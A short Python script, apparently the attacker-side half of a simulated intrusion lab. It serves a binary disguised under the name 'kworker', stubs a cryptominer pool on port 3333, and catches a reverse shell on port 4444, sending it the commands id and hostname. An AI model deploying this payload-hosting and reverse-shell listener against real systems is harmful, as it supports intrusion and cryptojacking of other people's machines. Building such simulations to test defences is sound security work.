"""The other side: gives out a program, plays the pool of a miner, and types into a shell that calls back."""

import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TYPED = ["id", "hostname", "exit"]


class Program(BaseHTTPRequestHandler):
    def do_GET(self):
        with open("/srv/kworker", "rb") as file:
            body = file.read()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def listen(port, talk):
    server = socket.create_server(("0.0.0.0", port))
    while True:
        connection, _ = server.accept()
        with connection:
            connection.settimeout(10)
            try:
                talk(connection)
            except OSError:
                pass


def pool(connection):
    print("pool: " + connection.recv(200).decode(errors="replace").strip(), flush=True)
    connection.sendall(b'{"id":1,"result":[],"error":null}\n')


def shell(connection):
    print("shell: it called back", flush=True)
    for line in TYPED:
        connection.sendall(line.encode() + b"\n")
        time.sleep(0.3)
    while answer := connection.recv(1000):
        print("shell: " + answer.decode(errors="replace").strip(), flush=True)


for port, talk in [(3333, pool), (4444, shell)]:
    threading.Thread(target=listen, args=(port, talk), daemon=True).start()
ThreadingHTTPServer(("0.0.0.0", 8000), Program).serve_forever()
